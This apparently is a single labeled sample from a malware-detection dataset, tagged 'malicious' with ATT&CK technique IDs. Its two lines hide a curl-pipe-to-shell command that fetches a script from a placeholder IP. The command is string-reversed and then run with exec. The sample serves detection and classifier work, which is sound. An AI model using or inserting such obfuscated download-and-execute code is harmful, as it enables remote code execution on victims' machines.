# label: malicious family=encoded techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=2-3
x = ')"hs | hs.x/16.001.15.891//:ptth s- lruc"(metsys.so;so tropmi'
exec(x[::-1])
